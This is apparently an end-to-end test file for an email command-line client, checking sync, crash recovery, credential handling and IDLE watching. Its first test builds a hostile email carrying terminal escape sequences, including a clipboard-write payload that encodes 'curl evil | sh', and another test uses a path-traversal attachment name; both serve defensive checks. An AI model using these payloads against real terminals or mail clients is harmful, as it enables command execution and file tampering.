// Bad input and bad days: hostile text, the real-world corpus, crashes mid-sync, wrong passwords, dead servers.
import Database from 'better-sqlite3';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { addAccount, BIN, type Cli, makeCli } from '../helpers/cli.js';
import { type DovecotInstance, startDovecot } from '../helpers/dovecot.js';
import { requireDovecot } from '../helpers/e2e.js';
import { makeBulk, makeEmail } from '../helpers/mail.js';
import { type SmtpSink, startSmtpSink } from '../helpers/smtp-sink.js';

const describeWithDovecot = requireDovecot();
const CORPUS = path.resolve(import.meta.dirname, '../../../shared/corpus/mail-fixtures');
const ESC = '\x1b';

function corpusFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const p = path.join(dir, name);
    return statSync(p).isDirectory() ? corpusFiles(p) : name.endsWith('.eml') ? [p] : [];
  });
}

describeWithDovecot('email: bad input and bad days', () => {
  let dovecot: DovecotInstance;
  let smtp: SmtpSink;
  const clis: Cli[] = [];
  const cliFor = async (user: string, name = user): Promise<Cli> => {
    const cli = makeCli();
    clis.push(cli);
    await addAccount(cli, dovecot, smtp, name, user);
    return cli;
  };

  beforeAll(async () => {
    dovecot = await startDovecot({ users: ['agent', 'customer', 'hostile', 'corpus', 'crash', 'crash2', 'halfway', 'big', 'idle'] });
    smtp = await startSmtpSink(dovecot);
  });
  afterAll(async () => {
    await smtp?.stop();
    await dovecot?.stop();
    for (const c of clis) c.cleanup();
  });

  it('escape sequences and bidi overrides from outside never reach the terminal raw', async () => {
    const cli = await cliFor('hostile');
    await dovecot.fillInbox('hostile', [
      makeEmail({
        from: `"Evil${ESC}]0;pwned${ESC}\\ Corp" <evil@example.test>`,
        to: 'hostile@example.test',
        subject: `Invoice ${ESC}[2J${ESC}[H${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07 due \u202Eexe.pdf`,
        body: `Hello ${ESC}[31mred${ESC}[0m \x9b6n and ${ESC}]8;;http://evil.test${ESC}\\link${ESC}]8;;${ESC}\\ done\x00\x7f`,
        messageId: 'evil1@example.test',
      }),
    ]);
    expect((await cli.run(['sync'])).code).toBe(0);
    const forbidden = /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;
    for (const args of [['list'], ['show', '1']]) {
      const r = await cli.run(args);
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(forbidden);
      expect(r.stdout).toContain('Invoice');
      expect(r.stdout).not.toContain('pwned'); // the OSC title payload is removed with its sequence
    }
    for (const args of [['list', '--json'], ['show', '1', '--json']]) {
      const r = await cli.run(args);
      expect(r.stdout).not.toMatch(forbidden);
      const parsed = JSON.parse(r.stdout);
      expect(JSON.stringify(parsed)).toContain('Invoice');
    }
    const shown = JSON.parse((await cli.run(['show', '1', '--json'])).stdout);
    expect(shown.messages[0].text).toContain('red');
    expect(shown.messages[0].text).toContain('link');
  });

  it.runIf(existsSync(CORPUS))('every message of the real-world corpus syncs without stopping the sync', async () => {
    const files = corpusFiles(CORPUS);
    expect(files.length).toBeGreaterThan(100);
    const cli = await cliFor('corpus');
    await dovecot.fillInbox('corpus', files.map((f) => readFileSync(f)));
    const r = await cli.run(['sync', '--json']);
    expect(r.code).toBe(0);
    const [report] = JSON.parse(r.stdout);
    expect(report.ok).toBe(true);
    expect(report.fetched).toBe(files.length);
    // Identical copies (byte for byte, or differing only in LF vs CRLF) are one message; distinct
    // messages that share a Message-ID (real mail does that) are all kept.
    const canonical = (f: string) => readFileSync(f, 'latin1').replace(/\r\n/g, '\n');
    const distinct = new Set(files.map((f) => createHash('sha1').update(canonical(f)).digest('hex'))).size;
    expect(report.skipped).toBe(0);
    expect(report.added).toBe(distinct);
    const list = await cli.run(['list', '--status', 'all', '--limit', '1000']);
    expect(list.code).toBe(0);
    expect(list.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  });

  // Both two-thread paths: a big backlog parses on a backfill worker and stores here; a middling
  // one parses here and stores on a store worker.
  it.each([
    ['the backfill worker', 'crash', { ATTEND_SYNC_WORKER_BACKLOG: '500' }],
    ['the store worker', 'crash2', { ATTEND_SYNC_WORKER_BACKLOG: '100000', ATTEND_STORE_WORKER_BACKLOG: '500' }],
  ])('a sync killed with SIGKILL mid-way resumes with nothing missing and nothing twice (%s)', async (_path, user, workerEnv) => {
    const cli = await cliFor(user);
    const n = 6000;
    await dovecot.fillInbox(user, makeBulk(n, { to: `${user}@example.test`, seed: 7 }));
    // Low worker thresholds: the crash hits a two-thread path.
    const child = spawn(process.execPath, [BIN, 'sync'], { env: { ...cli.env, ...workerEnv }, stdio: 'ignore' });
    // Wait until the first batches are committed, then pull the plug.
    const started = Date.now();
    for (;;) {
      const r = await cli.run(['list', '--status', 'all', '--json', '--limit', '1']);
      if (r.code === 0 && JSON.parse(r.stdout).length > 0) break;
      if (Date.now() - started > 30_000) throw new Error('sync never committed anything');
      await new Promise((res) => setTimeout(res, 50));
    }
    child.kill('SIGKILL');
    await new Promise((res) => child.once('close', res));
    const r = await cli.run(['sync', '--json'], { env: workerEnv });
    expect(r.code).toBe(0);
    const db = await cli.run(['list', '--status', 'all', '--json', '--limit', '100000']);
    const items = JSON.parse(db.stdout) as Array<{ messageCount: number; status: string }>;
    const stored = items.reduce((s, c) => s + c.messageCount, 0);
    expect(stored).toBe(n);
    // The mail is a month old: the first sync, resumed and on a worker, imports all of it as history.
    expect(items.filter((c) => c.status !== 'history')).toEqual([]);
    const [again] = JSON.parse((await cli.run(['sync', '--json'], { env: workerEnv })).stdout);
    expect(again.added).toBe(0);
  });

  it('a first sync killed between the newest headers and their text fills the text in on the next sync', async () => {
    const cli = await cliFor('halfway');
    const n = 150;
    // Fresh mail (inside the open window), so every message is announced.
    await dovecot.fillInbox('halfway', makeBulk(n, { to: 'halfway@example.test', seed: 11, replyRatio: 0, start: new Date(Date.now() - 3 * 3600_000) }));
    const crashed = await cli.run(['sync'], { env: { ATTEND_TEST_CRASH_AT: 'after-headers' } });
    expect(crashed.signal).toBe('SIGKILL');
    // The newest 100 were listable from their headers alone: subject and customer, no text yet.
    const early = JSON.parse((await cli.run(['list', '--status', 'all', '--json', '--limit', '1000'])).stdout) as Array<{ id: number; subject: string; preview: string }>;
    expect(early).toHaveLength(100);
    expect(early.every((c) => c.subject !== '' && c.preview === '')).toBe(true);
    expect((await cli.run(['sync'])).code).toBe(0);
    const all = JSON.parse((await cli.run(['list', '--status', 'all', '--json', '--limit', '1000'])).stdout) as Array<{ id: number; preview: string; messageCount: number }>;
    expect(all).toHaveLength(n);
    expect(all.reduce((s, c) => s + c.messageCount, 0)).toBe(n);
    expect(all.every((c) => c.preview !== '')).toBe(true);
    const shown = JSON.parse((await cli.run(['show', String(early[0]?.id), '--json'])).stdout) as { messages: Array<{ text: string }> };
    expect(shown.messages[0]?.text).not.toBe('');
    // Each message announced once, with its text (hooks and `watch` read message.received).
    const db = new Database(path.join(cli.home, 'attend.db'), { readonly: true });
    const received = db.prepare("SELECT json_extract(data_json, '$.messageId') AS id FROM events WHERE type = 'message.received'").all() as Array<{ id: string }>;
    const pending = db.prepare('SELECT COUNT(*) AS n FROM messages WHERE body_pending = 1').get() as { n: number };
    db.close();
    expect(received).toHaveLength(n);
    expect(new Set(received.map((r) => r.id)).size).toBe(n);
    expect(pending.n).toBe(0);
  });

  it('a 10 MB attachment is listed with its size, not stored', async () => {
    const cli = await cliFor('big');
    const payload = Buffer.alloc(10 * 1024 * 1024, 7).toString('base64').replace(/.{76}/g, '$&\r\n');
    const raw =
      'From: Big <big.sender@example.test>\r\nTo: big@example.test\r\nSubject: Scan\r\nMessage-ID: <big1@example.test>\r\n' +
      'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n' +
      `--b1\r\nContent-Type: application/pdf; name="../../etc/scan.pdf"\r\nContent-Disposition: attachment; filename="../../etc/scan.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${payload}\r\n--b1--\r\n`;
    await dovecot.fillInbox('big', [raw]);
    expect((await cli.run(['sync'])).code).toBe(0);
    const shown = JSON.parse((await cli.run(['show', '1', '--json'])).stdout);
    expect(shown.messages[0].text).toContain('See attached.');
    expect(shown.messages[0].attachments).toHaveLength(1);
    const att = shown.messages[0].attachments[0];
    expect(att.filename).toBe('scan.pdf');
    expect(att.contentType).toBe('application/pdf');
    expect(att.size).toBeGreaterThan(9.5 * 1024 * 1024);
    expect(att.size).toBeLessThan(10.5 * 1024 * 1024);
  });

  it('a wrong password is one clear line naming the account, exit 1', async () => {
    const cli = await cliFor('agent', 'work');
    const r = await cli.run(['sync'], { env: { ATTEND_TEST_PASSWORD: 'wrong' } });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/account work: IMAP login failed/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    const missing = await cli.run(['sync'], { env: { ATTEND_TEST_PASSWORD: '' } });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/account work: environment variable ATTEND_TEST_PASSWORD is not set/);
  });

  it('an unreachable server is one clear line, exit 1; account add checks before saving', async () => {
    const cli = makeCli({ ATTEND_TEST_PASSWORD: 'x' });
    clis.push(cli);
    const base = ['account', 'add', 'email', 'gone', '--email', 'a@example.test', '--imap-host', '127.0.0.1', '--imap-port', '1', '--imap-security', 'none',
      '--smtp-host', '127.0.0.1', '--smtp-port', '1', '--smtp-security', 'none', '--password-env', 'ATTEND_TEST_PASSWORD'];
    const checked = await cli.run(base);
    expect(checked.code).toBe(1);
    expect(checked.stderr).toMatch(/account gone: IMAP server 127\.0\.0\.1:1 refused the connection/);
    expect((await cli.run([...base, '--no-verify'])).code).toBe(0);
    const r = await cli.run(['sync']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/account gone: IMAP server 127\.0\.0\.1:1 refused the connection/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it('account add: no plain-text password, no cleartext to remote hosts, secrets never in the settings file', async () => {
    const cli = makeCli({ ATTEND_TEST_PASSWORD: 'hunter2' });
    clis.push(cli);
    const common = ['--email', 'a@example.test', '--imap-host', 'mail.example.com', '--smtp-host', 'mail.example.com', '--no-verify'];
    expect((await cli.run(['account', 'add', 'email', 'x', ...common])).code).toBe(2);
    const insecure = await cli.run(['account', 'add', 'email', 'x', ...common, '--imap-security', 'none', '--password-env', 'ATTEND_TEST_PASSWORD']);
    expect(insecure.code).toBe(2);
    expect(insecure.stderr).toMatch(/clear text/);
    expect((await cli.run(['account', 'add', 'email', 'x', ...common, '--password-command', 'echo hunter2'])).code).toBe(0);
    expect((await cli.run(['account', 'add', 'email', 'y', ...common, '--password-env', 'ATTEND_TEST_PASSWORD'])).code).toBe(0);
    const listed = JSON.parse((await cli.run(['account', 'list', '--json'])).stdout);
    expect(listed.map((a: { name: string }) => a.name)).toEqual(['x', 'y']);
    expect(listed[0]).toMatchObject({ imap: 'mail.example.com:993 tls', smtp: 'mail.example.com:465 tls' });
    const settings = readFileSync(path.join(cli.home, 'config.json'), 'utf8');
    expect(settings).not.toContain('hunter2'.replace('2', '3')); // sanity: the check below can fail
    expect(settings.match(/hunter2/g)?.length ?? 0).toBe(1); // only inside the command text "echo hunter2"
    expect(statSync(path.join(cli.home, 'config.json')).mode & 0o077).toBe(0);
    expect((await cli.run(['account', 'remove', 'x'])).code).toBe(0);
    expect(JSON.parse((await cli.run(['account', 'list', '--json'])).stdout)).toHaveLength(1);
  });

  it('sync --watch picks up new mail through IDLE without polling', { timeout: 120_000 }, async () => {
    const cli = await cliFor('idle');
    const child = spawn(process.execPath, [BIN, 'sync', '--watch', '--json'], { env: cli.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (d) => (out += d));
    try {
      const ready = Date.now();
      while (!out.includes('"ready":true') && Date.now() - ready < 30_000) await new Promise((res) => setTimeout(res, 50));
      expect(out).toContain('"ready":true');
      await dovecot.waitForIdle('idle'); // new mail is pushed from here on
      const t = Date.now();
      await dovecot.fillInbox('idle', [makeEmail({ from: 'c@example.test', to: 'idle@example.test', subject: 'Pushed', body: 'hi', messageId: 'push1@x' })]);
      while (!out.includes('"added":1') && Date.now() - t < 20_000) await new Promise((res) => setTimeout(res, 50));
      expect(out).toContain('"added":1');
      expect(Date.now() - t).toBeLessThan(15_000); // ~0.5 s on a quiet machine; generous for a loaded CI

      // The server goes away and comes back: the watcher reconnects by itself and catches up.
      await dovecot.kill();
      await new Promise((res) => setTimeout(res, 500));
      await dovecot.restart();
      await dovecot.fillInbox('idle', [makeEmail({ from: 'c@example.test', to: 'idle@example.test', subject: 'After restart', body: 'hi', messageId: 'push2@x' })]);
      const t2 = Date.now();
      while (out.split('"added":1').length < 3 && Date.now() - t2 < 40_000) await new Promise((res) => setTimeout(res, 100));
      expect(out.split('"added":1').length).toBe(3);
    } finally {
      child.kill('SIGTERM');
      await new Promise((res) => child.once('close', res));
    }
    const list = JSON.parse((await cli.run(['list', '--json'])).stdout);
    expect(list.map((c: { subject: string }) => c.subject)).toEqual(expect.arrayContaining(['Pushed', 'After restart']));
  });
});
